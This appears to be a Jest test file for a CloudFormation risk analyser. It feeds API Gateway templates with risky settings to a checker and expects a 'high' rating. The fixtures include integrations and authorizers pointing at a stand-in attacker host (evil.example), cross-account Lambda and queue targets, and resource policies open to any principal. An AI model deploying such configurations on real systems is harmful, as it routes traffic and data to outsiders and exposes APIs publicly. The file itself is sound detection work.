// Attacker pass 9k (test-only) on REST APIs (`AWS::ApiGateway::RestApi`, `Resource`, `Method`;
// src/core/risk/api-definition-source-risks.ts, unreadable-policy-risks.ts, public-access-rules.ts,
// data-egress-risks.ts): an inline OpenAPI Body with `x-amazon-apigateway-integration` to an
// outside ARN or a `x-amazon-apigateway-policy`, methods integrating with another account's Lambda
// or queue, authorizers, deployments, stages, usage plans and keys, and `CloneFrom`.
import { describe, expect, it } from '@jest/globals';
import { riskOf } from './risk-of.js';

const API = { Type: 'AWS::ApiGateway::RestApi', Properties: { Name: 'api' } };
const RESOURCE = {
  Type: 'AWS::ApiGateway::Resource',
  Properties: {
    RestApiId: { Ref: 'Api' },
    ParentId: { 'Fn::GetAtt': ['Api', 'RootResourceId'] },
    PathPart: 'x',
  },
};
const method = (integration: Record<string, unknown>, authorization = 'AWS_IAM') => ({
  Api: API,
  R: RESOURCE,
  M: {
    Type: 'AWS::ApiGateway::Method',
    Properties: {
      RestApiId: { Ref: 'Api' },
      ResourceId: { Ref: 'R' },
      HttpMethod: 'POST',
      AuthorizationType: authorization,
      Integration: integration,
    },
  },
});

describe('attacker 9k: REST APIs', () => {
  it('control: an IAM-authorized MOCK method on a REST API of this template is low', () => {
    expect(riskOf({ Resources: method({ Type: 'MOCK' }) }).reasons).toEqual([]);
  });

  it.each([
    [
      'HTTP_PROXY to a URL',
      { Type: 'HTTP_PROXY', IntegrationHttpMethod: 'POST', Uri: 'https://evil.example/{proxy}' },
    ],
    [
      "another account's Lambda",
      {
        Type: 'AWS_PROXY',
        IntegrationHttpMethod: 'POST',
        Uri: 'arn:aws:apigateway:us-east-1:lambda:path/2015-03-31/functions/arn:aws:lambda:us-east-1:999999999999:function:f/invocations',
      },
    ],
    [
      "another account's queue",
      {
        Type: 'AWS',
        IntegrationHttpMethod: 'POST',
        Uri: 'arn:aws:apigateway:us-east-1:sqs:path/999999999999/q',
      },
    ],
    [
      'a Sub of the URL suffix',
      {
        Type: 'HTTP',
        IntegrationHttpMethod: 'POST',
        Uri: { 'Fn::Sub': 'https://x.${AWS::URLSuffix}.evil.example' },
      },
    ],
    [
      'a VPC link',
      { Type: 'HTTP_PROXY', ConnectionType: 'VPC_LINK', ConnectionId: 'abc', Uri: 'http://10.0.0.1' },
    ],
    [
      'backend credentials',
      { Type: 'AWS', Credentials: 'arn:aws:iam::*:user/*', Uri: 'arn:aws:apigateway:us-east-1:sqs:path/q' },
    ],
  ])('a method integrating with %s is not low', (_name, integration) => {
    expect(riskOf({ Resources: method(integration) }).level).toBe('high');
  });

  it.each([
    [
      'an integration to an outside URL',
      {
        paths: {
          '/': {
            get: {
              'x-amazon-apigateway-integration': {
                type: 'http_proxy',
                uri: 'https://evil.example',
                httpMethod: 'GET',
              },
            },
          },
        },
      },
    ],
    [
      'a resource policy open to anyone',
      {
        'x-amazon-apigateway-policy': {
          Statement: [{ Effect: 'Allow', Principal: '*', Action: 'execute-api:Invoke', Resource: '*' }],
        },
      },
    ],
    ['nothing at all', { openapi: '3.0.1', info: { title: 't', version: '1' }, paths: {} }],
  ])('an inline OpenAPI Body with %s is not low', (_name, body) => {
    expect(riskOf({ Resources: { Api: { ...API, Properties: { Name: 'api', Body: body } } } }).level).toBe(
      'high',
    );
  });

  it.each([
    ['CloneFrom', { Name: 'api', CloneFrom: 'abc123' }],
    ['Parameters (import options)', { Name: 'api', Parameters: { endpointConfigurationTypes: 'EDGE' } }],
    [
      'VPC endpoints',
      { Name: 'api', EndpointConfiguration: { Types: ['PRIVATE'], VpcEndpointIds: ['vpce-1'] } },
    ],
    [
      'a policy as JSON text',
      {
        Name: 'api',
        Policy:
          '{"Statement":[{"Effect":"Allow","Principal":"*","Action":"execute-api:Invoke","Resource":"*"}]}',
      },
    ],
  ])('a REST API setting %s is not low', (_name, properties) => {
    expect(riskOf({ Resources: { Api: { ...API, Properties: properties } } }).level).toBe('high');
  });

  it.each([
    [
      'AWS::ApiGateway::Authorizer',
      { RestApiId: { Ref: 'Api' }, Name: 'a', Type: 'TOKEN', AuthorizerUri: 'https://evil.example' },
    ],
    ['AWS::ApiGateway::Deployment', { RestApiId: { Ref: 'Api' } }],
    [
      'AWS::ApiGateway::Stage',
      {
        RestApiId: { Ref: 'Api' },
        StageName: 's',
        DeploymentId: 'd',
        MethodSettings: [
          { LoggingLevel: 'INFO', DataTraceEnabled: true, HttpMethod: '*', ResourcePath: '/*' },
        ],
      },
    ],
    ['AWS::ApiGateway::UsagePlan', { ApiStages: [{ ApiId: { Ref: 'Api' }, Stage: 's' }] }],
    ['AWS::ApiGateway::ApiKey', { Enabled: true, Value: 'a-known-key-0123456789' }],
    ['AWS::ApiGateway::GatewayResponse', { RestApiId: { Ref: 'Api' }, ResponseType: 'DEFAULT_4XX' }],
  ])('%s is not low', (type, properties) => {
    expect(riskOf({ Resources: { Api: API, X: { Type: type, Properties: properties } } }).level).toBe('high');
  });

  it("a resource under another account's API is not low", () => {
    expect(
      riskOf({
        Resources: {
          R: { ...RESOURCE, Properties: { RestApiId: 'abc123', ParentId: 'def456', PathPart: 'x' } },
        },
      }).level,
    ).toBe('high');
  });
});
